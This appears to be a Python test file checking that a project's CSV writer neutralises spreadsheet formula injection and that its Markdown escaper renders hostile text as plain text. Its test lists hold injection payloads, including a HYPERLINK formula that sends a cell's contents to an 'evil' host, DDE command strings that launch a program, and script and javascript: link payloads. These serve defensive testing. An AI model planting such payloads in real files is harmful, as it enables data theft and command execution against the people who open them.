"""A spreadsheet program finds no formula in a CSV file of ours, and everything else as it was."""

import csv
import re
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from anatomy.data.csv_files import plain_cell, write_csv
from anatomy.report.markdown_table import escape, markdown_table

ROOT = Path(__file__).parents[2]
FORMULAS = [
    '=HYPERLINK("http://evil/?"&A1)', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1)",
    "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff201", "=", "-", "+", "- a list",
]  # fmt: skip
PLAIN = ["", "a", "a=b", "1", "-1", "+1.5", "-1e-5", "-.5", "'=1", '"=1"', "1-2", "\u2212 x", "x,y", "two\nlines", "ü"]


@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_formulas_are_text(text):
    assert plain_cell(text) == f"'{text}"


@pytest.mark.parametrize("text", PLAIN, ids=ascii)
def test_other_text_and_numbers_stay(text):
    assert plain_cell(text) == text


def test_a_table_with_everything(tmp_path):
    texts = [*FORMULAS, *PLAIN, "\ud800", None]
    numbers = -np.arange(len(texts)) / 3
    frame = pd.DataFrame(
        {
            "text": pd.Series(texts, dtype=object),
            "=name": numbers,
            "n": range(len(texts)),
            "mixed": [-1, "=1"] * (len(texts) // 2) + [None] * (len(texts) % 2),
        }
    )
    write_csv(frame, tmp_path / "a.csv")
    with (tmp_path / "a.csv").open(encoding="utf-8", newline="") as file:
        lines = list(csv.DictReader(file))
    assert list(lines[0]) == ["text", "'=name", "n", "mixed"]
    assert [line["text"] for line in lines] == [*(f"'{text}" for text in FORMULAS), *PLAIN, "?", ""]
    assert [float(line["'=name"]) for line in lines] == numbers.tolist()
    assert {line["mixed"] for line in lines} - {""} == {"-1", "'=1"}
    assert frame["text"].tolist()[: len(FORMULAS)] == FORMULAS  # the table itself is unchanged


def test_there_is_one_writer():
    """Neither Python nor the page writes CSV or tables of a spreadsheet program elsewhere."""
    wanted = re.compile(
        r"\.to_csv\(|csv\.(Dict)?[wW]riter|to_excel|write_csv\(|text/(csv|tab-separated)|\.(csv|tsv|xlsx)[\"'`]"
    )
    reading = {"anatomy/data/readers.py", "anatomy/data/csv_files.py", "probes/score_table.py"}
    places = [
        path for name in ("anatomy", "probes", "interventions", "experiments") for path in (ROOT / name).rglob("*")
    ]
    found = {
        str(path.relative_to(ROOT))
        for path in places
        if path.suffix in {".py", ".js"} and wanted.search(path.read_text(encoding="utf-8"))
    }
    assert found - reading == set()


MARKUP = [
    "<script>alert(1)</script>", "![a](http://evil/b.png)", "[a](javascript:alert(1))", "http://evil/", "www.evil.org",
    "# title", "- item", "1. item", "> quote", "| cell |", "`code`", "```", "---", "***", "~~a~~", "@user", "$x$",
    "<!-- -->", "&lt;", "a\n\n# b", "\x1b[2J", "\u202eabc", "+ item", "===", "[x]: http://evil/", "    code", "\\",
]  # fmt: skip


@pytest.mark.parametrize("text", MARKUP, ids=ascii)
def test_markdown_shows_hostile_text_as_it_is(text):
    """A Markdown parser with tables finds text and nothing else."""
    from markdown_it import MarkdownIt

    parser = MarkdownIt("commonmark", {"linkify": False}).enable("table").enable("strikethrough")
    kinds = {"paragraph_open", "paragraph_close", "inline"}
    tokens = parser.parse(escape(text))
    assert {token.type for token in tokens} <= kinds
    inside = [child.type for token in tokens for child in token.children or []]
    assert set(inside) <= {"text", "text_special"}
    table = parser.parse(markdown_table(("a", "b"), [(text, "end")]))
    assert [token.content for token in table if token.type == "inline"][-1] == "end"
    cells = [child.type for token in table for child in token.children or []]
    assert set(cells) <= {"text", "text_special"}
    assert sum(token.type == "td_open" for token in table) == 2
